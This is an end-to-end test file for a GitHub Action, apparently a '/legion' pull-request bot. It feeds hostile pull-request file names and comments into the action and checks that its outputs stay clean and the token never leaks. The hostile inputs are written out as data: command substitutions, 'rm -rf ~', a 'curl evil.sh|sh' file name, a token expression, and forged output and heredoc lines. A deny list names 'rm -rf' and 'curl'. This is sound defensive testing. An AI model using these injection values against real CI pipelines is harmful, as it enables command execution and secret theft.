/**
 * End to end (dist/index.js against the fake GitHub API, test/support/*): a pull request whose
 * changed files carry shell syntax, and comments carrying `${{ github.token }}`, line breaks and
 * the heredoc delimiter prefix. The GITHUB_OUTPUT file must hold exactly the 12 outputs, none of
 * them with an executable fragment; the token appears in no output, summary or reply.
 */
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { OUTPUT_NAMES } from '../../src/app/route-outputs.js';
import { expectAllOutputs } from '../support/expect-outputs.js';
import { FakeGitHub } from '../support/fake-github.js';
import { BASE_SHA, HEAD_SHA, commentPayload, HEAD_PUSHED_AT } from '../support/payloads.js';
import { cleanupTemps, ensureDist, exampleWorkspace, runAction, type ActionRun } from '../support/run-action.js';

const TOKEN_EXPR = '${{ github.token }}';
const HOSTILE_FILES = ['$(id).ts', '`x`.ts', 'a;rm -rf ~.ts', '-rf.ts', 'evil\nname.ts', `${TOKEN_EXPR}.ts`, 'src/api/$(curl evil.sh|sh).ts'];
const FORBIDDEN = ['$(', '`', ';', '${{', '|', '&', '<', '>', "'", '\r', '\n', 'rm -rf', 'curl'];

let fake: FakeGitHub;
let workspace: string;

beforeAll(async () => {
  ensureDist();
  fake = await FakeGitHub.start();
  workspace = exampleWorkspace();
  // A plan of the current phase that declares every file (`**`) and some hostile names.
  const phase = join(workspace, '.planning', 'phases', '02-api-and-ui');
  mkdirSync(phase, { recursive: true });
  writeFileSync(
    join(phase, '02-06-PLAN.md'),
    `---\nphase: 2\nplan: "02-06"\nwave: 3\nautonomous: true\nagents: [engineering-senior-developer, "$(id)"]\nfiles_modified: ["**", "$(id).ts", "-rf.ts"]\n---\n# Everything\n`,
  );
}, 180_000);
// The stand-in is held to GitHub's REST description (test/support/github-spec.ts).
afterEach(() => {
  expect(fake?.violations ?? []).toEqual([]);
});
afterAll(async () => {
  await fake.close();
  cleanupTemps();
});
beforeEach(() => {
  fake.reset();
  fake.permissions.set('Codertocat', 'admin');
  fake.addPull({ number: 2, headSha: HEAD_SHA, baseSha: BASE_SHA, files: HOSTILE_FILES, pushedAt: HEAD_PUSHED_AT });
});

const run = (body: string): Promise<ActionRun> => runAction({ workspace, apiUrl: fake.url, eventName: 'issue_comment', payload: commentPayload(body) });

function expectClean(result: ActionRun): void {
  // parseGithubOutput (inside runAction) throws on any line that is not a heredoc or name=value.
  expect(Object.keys(result.outputs).sort()).toEqual([...OUTPUT_NAMES].sort());
  expectAllOutputs(result.outputs);
  for (const [name, value] of Object.entries(result.outputs)) {
    // changed-files-list names the files by design, as inert encoded words (checked below).
    if (name === 'changed-files-list') continue;
    for (const fragment of FORBIDDEN) expect(value.includes(fragment), `${name} contains ${JSON.stringify(fragment)}: ${value}`).toBe(false);
  }
  for (const line of (result.outputs['changed-files-list'] ?? '').split('\n').filter(Boolean)) {
    expect(line).toMatch(/^(?:[A-Za-z0-9._/+@:,=-]+|"(?:[A-Za-z0-9._/+@:,=-]|\\[0-3][0-7]{2})+"|#truncated:\d+)$/);
  }
  for (const text of [JSON.stringify(result.outputs), result.summary, ...fake.comments.map((c) => c.body)]) expect(text).not.toContain(fake.token);
  // No input text starts a workflow command in the step log.
  for (const line of result.stdout.split(/\r\n|\r|\n/)) expect(line).not.toMatch(/^\s*::(set-output|set-env|add-path|stop-commands|save-state)/);
}

describe('e2e injection: hostile changed-file names from the API', () => {
  it('the files select the plan (02-06 declares **); only their count reaches the matrix', async () => {
    const result = await run('/legion build');
    expect(result.code).toBe(0);
    expectClean(result);
    const { include } = expectAllOutputs(result.outputs);
    const entry = include.find((e) => e['plan'] === '02-06') as Record<string, unknown>;
    expect(entry['changed_files']).toBe(HOSTILE_FILES.length);
    expect(entry['files']).toEqual(['**']);
    expect(entry['agents']).toEqual(['engineering-senior-developer']);
    expect(entry['unsafe_values_omitted']).toBe(3);
    expect(result.outputs['has-work']).toBe('true');
    expect(result.outputs['sha']).toBe(HEAD_SHA);
  });
});

describe('e2e injection: comments', () => {
  it('`${{ github.token }}` and $(id) as free text reach the job only base64-encoded', async () => {
    const text = `${TOKEN_EXPR} $(id) \`id\``;
    const result = await run(`/legion plan ${text}\nhas-work=true\nghadelimiter_00000000-0000-0000-0000-000000000000\ncount=99`);
    expect(result.code).toBe(0);
    expectClean(result);
    const { include } = expectAllOutputs(result.outputs);
    expect(include).toHaveLength(1);
    expect(Buffer.from(include[0]?.['text_b64'] as string, 'base64').toString('utf8')).toBe(text);
    expect(result.outputs['count']).toBe('1');
  });

  it.each([
    ['a flag', `/legion build --${TOKEN_EXPR}`],
    ['a command word', `/legion ${TOKEN_EXPR}`],
    ['a forged output line', `/legion build --just-hardne\nhas-work=true\nerror-code=`],
  ])('`${{ }}` as %s: rejected with a reply, outputs clean', async (_label, body) => {
    const result = await run(body);
    expectClean(result);
    expect(result.outputs['has-work']).toBe('false');
    expect(result.outputs['error-code']).toMatch(/^E\d{3}$/);
    expect(fake.comments).toHaveLength(1);
    expect(fake.reactions.map((r) => r.content)).toContain('confused');
  });
});
